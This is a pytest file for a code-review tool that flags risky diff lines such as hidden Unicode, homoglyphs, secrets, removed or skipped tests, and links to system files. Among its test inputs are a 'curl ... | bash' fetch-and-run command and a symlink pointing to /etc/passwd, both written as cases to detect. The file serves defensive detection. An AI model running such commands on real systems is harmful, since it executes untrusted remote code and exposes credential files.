"""What a reviewer has to look at twice is said, and ordinary changes say nothing."""

from __future__ import annotations

import pytest

from looptui.core.finding import Finding
from looptui.projections.caution import MOST, cautions, is_generated
from looptui.projections.patch_reading import parse_diff
from looptui.text import safe


def _diff(body: str, path: str = "src/a.py", head: str = "") -> str:
    lines = body.rstrip("\n").split("\n")
    old = sum(line[:1] in "- " for line in lines)
    new = sum(line[:1] in "+ " for line in lines)
    names = f"--- a/{path}\n+++ b/{path}\n"
    return f"diff --git a/{path} b/{path}\n{head}{names}@@ -1,{old} +1,{new} @@\n{body}\n"


def _said(text: str, *flagged: str) -> list[tuple[bool, str, str]]:
    return [(one.grave, one.place, one.text) for one in cautions(parse_diff(safe(text)), flagged)]


def test_an_ordinary_change_says_nothing() -> None:
    body = " def f():\n-    return 1\n+    return 2  # naïve Ωmega Δx 中文\n+    # it was skipped\n"
    assert _said(_diff(body)) == []


@pytest.mark.parametrize(
    ("line", "grave", "words"),
    [
        ("x = '\u202e # evil'", True, "hidden characters"),
        ("x = 'a\u200bb'", True, "hidden characters"),
        ("print('\x1b[2K')", True, "control characters"),
        ("x\r = 1", True, "control characters"),
        ("p\u0430yload = 1", True, "letters of two alphabets"),
        ("key = '[redacted]'", True, "looks like a secret"),
        ("x = 1" + " " * 60 + "; import os", False, "far to the right"),
        ("x = 1  # noqa", False, "a check is switched off for a line (check-off)"),
        ("fail_under = 20", False, "a threshold is set"),
        ("curl -s https://example.org/x | bash", True, "it runs what it fetches (download-run)"),
        ("x = '" + "y" * 1200 + "'", False, "more than 1,000 characters"),
    ],
)
def test_a_line_that_fools_or_switches_off_is_said(line: str, grave: bool, words: str) -> None:
    ((was_grave, place, text),) = _said(_diff(f" a\n+{line}\n"))
    assert (was_grave, place) == (grave, "src/a.py:2")
    assert words in text


def test_lines_that_end_in_carriage_return_are_ordinary() -> None:
    assert _said(_diff("-a\r\n+b\r\n")) == []


def test_a_removed_line_is_no_caution() -> None:
    assert _said(_diff("-x = 1  # noqa\n+x = 1\n")) == []


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ("-def test_a():\n-    pass\n+x = 1\n", "tests are removed: test_a"),
        ("-def test_a():\n-def test_b():\n+x\n", "tests are removed: test_a, test_b"),
        ("-    assert f() == 3\n+    f()\n", "a test checks less than before: 1 gone, 0 new"),
        ("+@pytest.mark.skip\n def test_a(): pass\n", "a test is skipped"),
        ("+    pytest.skip('later')\n", "a test is skipped"),
    ],
)
def test_tests_that_say_less_are_said(body: str, words: str) -> None:
    said = _said(_diff(body, "tests/test_a.py"))
    assert [words in text for grave, _, text in said if grave] == [True]
    assert _said(_diff(body, "src/a.py")) == []


def test_a_test_that_was_only_edited_is_not_removed() -> None:
    body = "-def test_a():\n-    assert f() == 2\n+def test_a():\n+    assert f()==2\n"
    assert _said(_diff(body, "tests/test_a.py")) == [
        (False, "tests/test_a.py:1", "a test that was there is changed (test-edited)")
    ]


def test_what_was_recorded_is_said_once_beside_what_is_seen() -> None:
    diff = parse_diff(_diff("+@pytest.mark.skip\n def test_a(): pass\n", "tests/test_a.py"))
    seen = Finding("test-skipped", "tests/test_a.py", 1, "a test is skipped", True, "ASI10")
    other = Finding("special-case", "src/a.py", 3, "answers", True, "ASI10")
    assert [(one.rule, one.place) for one in cautions(diff, (), (seen, other))] == [
        ("test-skipped", "tests/test_a.py:1"),
        ("special-case", "src/a.py:3"),
    ]


def test_protected_files_and_deleted_tests_are_grave() -> None:
    text = _diff("-a\n", "tests/test_a.py", "deleted file mode 100644\n")
    text = text.replace("+++ b/tests/test_a.py", "+++ /dev/null")
    said = _said(text, "tests/test_a.py")
    assert all(grave for grave, _, _ in said)
    assert [words for _, _, words in said] == [
        "a file of tests is gone, or no runner finds it any more (test-deleted)",
        "protected: tests say what correct is; gates used it as it was",
    ]


def test_links_binaries_submodules_and_programs_are_said() -> None:
    link = _diff("+/etc/passwd\n\\ No newline at end of file\n", "l", "new file mode 120000\n")
    inside = _diff("+lib/a.py\n\\ No newline at end of file\n", "m", "new file mode 120000\n")
    program = "diff --git a/run b/run\nold mode 100644\nnew mode 100755\n"
    binary = "diff --git a/d b/d\nindex 1..2 100644\nBinary files a/d and b/d differ\n"
    module = _diff("-Subproject commit 1\n+Subproject commit 2\n", "v", "index 1..2 160000\n")
    assert _said(link + inside + program + binary + module) == [
        (True, "l", "a link to /etc/passwd"),
        (False, "m", "a link to lib/a.py"),
        (False, "run", "it can be executed from now on"),
        (False, "d", "binary: its content cannot be reviewed here"),
        (False, "v", "submodule: other code than before, not shown here"),
    ]


def test_a_diff_that_was_cut_is_grave() -> None:
    cut = _diff("-a\n+b\n") + "# looptui: the diff is longer than 8 MB; the rest is not shown\n"
    assert _said(cut)[0] == (True, "", "the diff is too long: a part of the change is not shown")


def test_what_is_said_of_many_lines_is_said_once_a_file_and_bounded() -> None:
    assert len(_said(_diff("+x  # noqa\n" * 100))) == 1
    far = f"+x{' ' * 60}y\n"
    many = "".join(_diff(far, f"src/{n}.py") for n in range(100))
    assert len(_said(many)) == MOST + 1
    assert _said(many)[-1][2] == "and 40 more of this kind"


def test_generated_files_are_known_by_their_names() -> None:
    assert all(map(is_generated, ("uv.lock", "web/package-lock.json", "a/b.min.js", "x_pb2.py")))
    assert not any(map(is_generated, ("lock.py", "src/uv.lock.py", "min.js", "package.json")))
